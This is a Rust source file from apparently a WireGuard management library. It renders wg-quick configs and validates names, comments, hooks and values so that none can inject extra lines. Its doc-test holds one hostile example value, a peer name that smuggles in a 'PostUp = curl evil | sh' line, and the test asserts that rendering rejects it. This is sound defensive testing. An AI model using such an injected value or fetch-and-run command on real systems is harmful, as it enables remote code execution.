//! The renderer: [`WgQuickConfig`] to wg-quick text, refusing anything that would not
//! read back as the same configuration.

use std::collections::HashMap;
use std::fmt::{self, Write as _};
use std::str::FromStr;

use ipnet::IpNet;
use zeroize::Zeroizing;

use super::config::{
    check_mtu, is_single_line_text, name_from_comment, InterfaceSection, PeerSection, Table,
    WgQuickConfig,
};
use super::document::Key;
use crate::net::{Endpoint, FwMark, Keepalive, ListenPort, Mtu};
use crate::{Error, Result};

/// A growable text buffer that zeroizes every buffer it leaves behind, so a private or
/// preshared key written early is not left in freed memory when the text grows.
struct SecretBuf(Zeroizing<String>);

impl SecretBuf {
    fn with_capacity(n: usize) -> Self {
        SecretBuf(Zeroizing::new(String::with_capacity(n)))
    }
}

impl fmt::Write for SecretBuf {
    fn write_str(&mut self, s: &str) -> fmt::Result {
        if self.0.capacity() - self.0.len() < s.len() {
            let mut bigger =
                String::with_capacity((self.0.len() + s.len()).max(self.0.capacity() * 2));
            bigger.push_str(&self.0);
            // Dropping the old `Zeroizing<String>` wipes its whole capacity.
            self.0 = Zeroizing::new(bigger);
        }
        self.0.push_str(s);
        Ok(())
    }
}

/// Render `cfg` as a wg-quick file.
///
/// The layout is fixed: top comments and a blank line, then `[Interface]`, then each
/// `[Peer]` after a blank line; in each section `# Name = ...`, the other comments, then
/// the keys in the order `wg-quick(8)` documents them, lists comma-separated on one line.
/// Hooks are written only if `cfg` carries them.
///
/// The result holds the private and preshared keys, in memory that is zeroized on drop.
///
/// Errors ([`Error::InvalidInput`], naming the field, never the value): a name or comment
/// that is empty (names), has leading or trailing blanks, a control, line-separator or
/// bidirectional formatting character, or (comments of an unnamed section) would read
/// back as a name; a hook with such characters or with `#`; a value whose text would not
/// parse back to itself (an endpoint or DNS search domain built by hand with bad
/// characters, a table name that looks like a number); an MTU below 1280 with an IPv6
/// address; two peers with one public key, or a peer with the interface's own key. So a
/// newline smuggled into a name can never become a `PostUp` line.
///
/// ```
/// use wgm_core::keys::PrivateKey;
/// use wgm_core::wgquick::{render, PeerSection, WgQuickConfig};
/// let mut cfg = WgQuickConfig::default();
/// let mut peer = PeerSection::new(PrivateKey::generate().public_key());
/// peer.name = Some("alice\nPostUp = curl evil | sh".into());
/// cfg.peers.push(peer);
/// assert!(render(&cfg).is_err());
/// ```
pub fn render(cfg: &WgQuickConfig) -> Result<Zeroizing<String>> {
    validate(cfg)?;
    let estimate = 256
        + cfg.comments.iter().map(|c| c.len() + 3).sum::<usize>()
        + cfg
            .peers
            .iter()
            .map(|p| 160 + p.allowed_ips.len() * 45)
            .sum::<usize>();
    let mut out = SecretBuf::with_capacity(estimate);
    write_config(&mut out, cfg)?;
    Ok(out.0)
}

fn write_config(out: &mut SecretBuf, cfg: &WgQuickConfig) -> Result<()> {
    write_all(out, cfg).map_err(|_| Error::invalid("wg-quick", "formatting failed"))
}

fn write_all(out: &mut SecretBuf, cfg: &WgQuickConfig) -> fmt::Result {
    for c in &cfg.comments {
        write_comment(out, c)?;
    }
    if !cfg.comments.is_empty() {
        out.write_str("\n")?;
    }
    write_interface(out, &cfg.interface)?;
    for peer in &cfg.peers {
        out.write_str("\n")?;
        write_peer(out, peer)?;
    }
    Ok(())
}

fn write_comment(out: &mut SecretBuf, c: &str) -> fmt::Result {
    if c.is_empty() {
        out.write_str("#\n")
    } else {
        writeln!(out, "# {c}")
    }
}

fn write_header(
    out: &mut SecretBuf,
    header: &str,
    name: Option<&String>,
    comments: &[String],
) -> fmt::Result {
    writeln!(out, "{header}")?;
    if let Some(name) = name {
        writeln!(out, "# Name = {name}")?;
    }
    for c in comments {
        write_comment(out, c)?;
    }
    Ok(())
}

fn write_list<T: fmt::Display>(out: &mut SecretBuf, key: Key, items: &[T]) -> fmt::Result {
    if items.is_empty() {
        return Ok(());
    }
    write!(out, "{} = ", key.canonical())?;
    for (i, item) in items.iter().enumerate() {
        if i > 0 {
            out.write_str(", ")?;
        }
        write!(out, "{item}")?;
    }
    out.write_str("\n")
}

fn write_opt<T: fmt::Display>(out: &mut SecretBuf, key: Key, value: Option<&T>) -> fmt::Result {
    match value {
        Some(v) => writeln!(out, "{} = {v}", key.canonical()),
        None => Ok(()),
    }
}

fn write_interface(out: &mut SecretBuf, iface: &InterfaceSection) -> fmt::Result {
    write_header(out, "[Interface]", iface.name.as_ref(), &iface.comments)?;
    if let Some(key) = &iface.private_key {
        out.write_str("PrivateKey = ")?;
        out.write_str(&key.expose_base64())?;
        out.write_str("\n")?;
    }
    write_list(out, Key::Address, &iface.addresses)?;
    write_opt(out, Key::ListenPort, iface.listen_port.as_ref())?;
    write_opt(out, Key::FwMark, iface.fwmark.as_ref())?;
    write_list(out, Key::Dns, &iface.dns)?;
    write_opt(out, Key::Mtu, iface.mtu.as_ref())?;
    write_opt(out, Key::Table, iface.table.as_ref())?;
    write_opt(out, Key::SaveConfig, iface.save_config.as_ref())?;
    for (key, hooks) in iface.hooks.by_key() {
        for hook in hooks {
            if hook.is_empty() {
                writeln!(out, "{} =", key.canonical())?;
            } else {
                writeln!(out, "{} = {hook}", key.canonical())?;
            }
        }
    }
    Ok(())
}

fn write_peer(out: &mut SecretBuf, peer: &PeerSection) -> fmt::Result {
    write_header(out, "[Peer]", peer.name.as_ref(), &peer.comments)?;
    writeln!(out, "PublicKey = {}", peer.public_key)?;
    if let Some(psk) = &peer.preshared_key {
        out.write_str("PresharedKey = ")?;
        out.write_str(&psk.expose_base64())?;
        out.write_str("\n")?;
    }
    write_list(out, Key::AllowedIps, &peer.allowed_ips)?;
    write_opt(out, Key::Endpoint, peer.endpoint.as_ref())?;
    write_opt(
        out,
        Key::PersistentKeepalive,
        peer.persistent_keepalive.as_ref(),
    )?;
    Ok(())
}

// ---------------------------------------------------------------------------------------
// Validation
// ---------------------------------------------------------------------------------------

/// Check everything [`render`] checks, without rendering.
pub fn validate(cfg: &WgQuickConfig) -> Result<()> {
    for (i, c) in cfg.comments.iter().enumerate() {
        check_comment(&format!("comments[{i}]"), c)?;
    }
    validate_interface(&cfg.interface)?;
    let own = cfg
        .interface
        .private_key
        .as_ref()
        .map(crate::keys::PrivateKey::public_key);
    let mut seen = HashMap::with_capacity(cfg.peers.len());
    for (i, peer) in cfg.peers.iter().enumerate() {
        let section = format!("Peer[{i}]");
        if own == Some(peer.public_key) {
            return Err(Error::invalid(
                format!("{section}.PublicKey"),
                "is the interface's own public key",
            ));
        }
        if let Some(first) = seen.insert(peer.public_key, i) {
            return Err(Error::invalid(
                format!("{section}.PublicKey"),
                format!("the same public key as Peer[{first}]"),
            ));
        }
        validate_peer(&section, peer)?;
    }
    Ok(())
}

fn check_comment(field: &str, c: &str) -> Result<()> {
    if is_single_line_text(c) {
        Ok(())
    } else {
        Err(Error::invalid(
            field.to_owned(),
            "must not contain control, line-separator or bidirectional formatting characters, \
             nor start or end with a blank",
        ))
    }
}

fn check_names(section: &str, name: Option<&String>, comments: &[String]) -> Result<()> {
    if let Some(name) = name {
        if name.is_empty() {
            return Err(Error::invalid(
                format!("{section}.name"),
                "must not be empty",
            ));
        }
        check_comment(&format!("{section}.name"), name)?;
    }
    for (i, c) in comments.iter().enumerate() {
        let field = format!("{section}.comments[{i}]");
        check_comment(&field, c)?;
        if name.is_none() && name_from_comment(c).is_some() {
            return Err(Error::invalid(
                field,
                "would be read back as the section's name; set the name instead",
            ));
        }
    }
    Ok(())
}

/// `value` renders to text that the same parser reads back as `value`.
fn check_round_trip<T>(field: impl FnOnce() -> String, value: &T) -> Result<()>
where
    T: fmt::Display + FromStr + PartialEq,
{
    let text = value.to_string();
    let ok = is_single_line_text(&text)
        && !text.is_empty()
        && !text.contains(['#', ','])
        && text.parse::<T>().is_ok_and(|back| back == *value);
    if ok {
        Ok(())
    } else {
        Err(Error::invalid(
            field(),
            "cannot be written to a wg-quick file and read back unchanged",
        ))
    }
}

fn validate_interface(iface: &InterfaceSection) -> Result<()> {
    check_names("Interface", iface.name.as_ref(), &iface.comments)?;
    for (i, net) in iface.addresses.iter().enumerate() {
        if is_v4_mapped(net) {
            return Err(Error::invalid(
                format!("Interface.Address[{i}]"),
                "must not be IPv4-mapped IPv6; use the IPv4 form",
            ));
        }
    }
    if let Some(v) = &iface.listen_port {
        check_round_trip::<ListenPort>(|| "Interface.ListenPort".into(), v)?;
    }
    if let Some(v) = &iface.fwmark {
        check_round_trip::<FwMark>(|| "Interface.FwMark".into(), v)?;
    }
    // Each entry reads back as itself, at most 16, none twice (what the parser accepts).
    crate::net::check_dns_list(&iface.dns, "Interface.DNS")?;
    if let Some(v) = &iface.mtu {
        check_round_trip::<Mtu>(|| "Interface.MTU".into(), v)?;
    }
    if let Some(v) = &iface.table {
        check_round_trip::<Table>(|| "Interface.Table".into(), v)?;
    }
    check_mtu(iface)?;
    for (key, hooks) in iface.hooks.by_key() {
        for (i, hook) in hooks.iter().enumerate() {
            if !is_single_line_text(hook) || hook.contains('#') {
                return Err(Error::invalid(
                    format!("Interface.{}[{i}]", key.canonical()),
                    "must be one line without '#', control or formatting characters, and \
                     without leading or trailing blanks",
                ));
            }
        }
    }
    Ok(())
}

fn validate_peer(section: &str, peer: &PeerSection) -> Result<()> {
    check_names(section, peer.name.as_ref(), &peer.comments)?;
    for (i, net) in peer.allowed_ips.iter().enumerate() {
        if net.trunc() != *net || is_v4_mapped(net) {
            return Err(Error::invalid(
                format!("{section}.AllowedIPs[{i}]"),
                "must be a network without host bits and not IPv4-mapped IPv6",
            ));
        }
    }
    if let Some(v) = &peer.endpoint {
        check_round_trip::<Endpoint>(|| format!("{section}.Endpoint"), v)?;
    }
    if let Some(v) = &peer.persistent_keepalive {
        check_round_trip::<Keepalive>(|| format!("{section}.PersistentKeepalive"), v)?;
    }
    Ok(())
}

/// `::ffff:a.b.c.d/n`, which the parser refuses (the IPv4 form is the one spelling).
fn is_v4_mapped(net: &IpNet) -> bool {
    matches!(net, IpNet::V6(v6) if v6.addr().to_ipv4_mapped().is_some())
}
